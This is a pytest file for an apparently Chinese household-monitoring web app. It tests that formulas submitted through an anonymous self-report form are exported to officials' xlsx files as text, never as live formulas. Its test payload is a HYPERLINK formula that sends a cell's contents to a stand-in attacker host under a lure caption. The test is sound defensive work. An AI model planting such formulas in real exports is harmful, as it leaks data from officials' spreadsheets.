"""What an anonymous visitor types into the self-report page reaches the officials' xlsx
export as text, never as a live formula."""

import io

import openpyxl
import pytest

from tests.factories import make_world
from tests.monitor.factories import add_household, family, headers
from yunong.core.auth.roles import Role
from yunong.store.db import make_engine, make_sessionmaker, transaction

LINK = '=HYPERLINK("http://evil.example/steal?d="&C2,"点击查看附件")'


@pytest.fixture(scope="module")
def world(module_db_url):
    engine = make_engine(module_db_url)
    with transaction(make_sessionmaker(engine)) as session:
        world = make_world(session)
        made = add_household(session, village=world.place.village, number="0601", members=family())
        world.head_id = made.persons[0].id_number  # type: ignore[attr-defined]
    engine.dispose()
    return world


def test_a_formula_in_a_self_report_is_exported_as_text(client, world):
    sent = client.post(
        "/api/monitor/self-reports",
        json={
            "name": "张建国",
            "id_number": world.head_id,
            "village": world.place.village,
            "what_happened": LINK,
            "risk_type": "因病",
        },
    )
    assert sent.status_code == 201, sent.text

    response = client.get(
        "/monitor/export/self-reports.xlsx", headers=headers(world, Role.TOWN_OFFICER)
    )

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert "'" + LINK in [cell.value for cell in cells]
